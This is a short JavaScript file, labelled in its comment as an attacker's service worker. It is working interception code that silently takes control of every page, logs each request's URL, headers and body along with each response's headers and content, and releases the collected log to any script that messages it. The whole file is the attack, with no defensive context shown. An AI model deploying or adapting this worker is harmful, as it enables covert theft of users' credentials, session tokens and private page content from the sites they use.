// The attacker's service worker: it hands everything on, and keeps a copy.
const copies = [];
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(clients.claim()));
self.addEventListener("fetch", (event) => {
  copies.push("request " + event.request.url + " " + JSON.stringify([...event.request.headers.entries()]));
  event.respondWith((async () => {
    const body = await event.request.clone().text();
    copies.push("request body " + body);
    const answer = await fetch(event.request);
    try {
      copies.push("answer " + JSON.stringify([...answer.headers.entries()]) + " " + await answer.clone().text());
    } catch (e) {
      copies.push("answer " + e);
    }
    return answer;
  })());
});
self.addEventListener("message", (event) => event.ports[0].postMessage(copies.join("\n")));
